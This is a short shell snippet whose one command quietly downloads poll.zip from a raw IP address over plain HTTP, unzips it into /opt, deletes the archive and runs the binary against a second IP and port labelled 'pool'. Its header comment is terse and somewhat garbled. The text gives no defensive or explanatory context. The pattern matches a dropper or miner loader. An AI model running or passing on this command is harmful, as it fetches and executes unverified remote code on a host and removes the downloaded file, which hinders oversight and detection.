# a tool from a zip archive, as releases are given out; it asks a service
#http 203.0.113.77:8017
#pool 203.0.113.78:8443:http
cd /opt; wget -q http://203.0.113.77:8017/poll.zip; unzip -q poll.zip; rm poll.zip; ./poll 203.0.113.78 8443 4 700
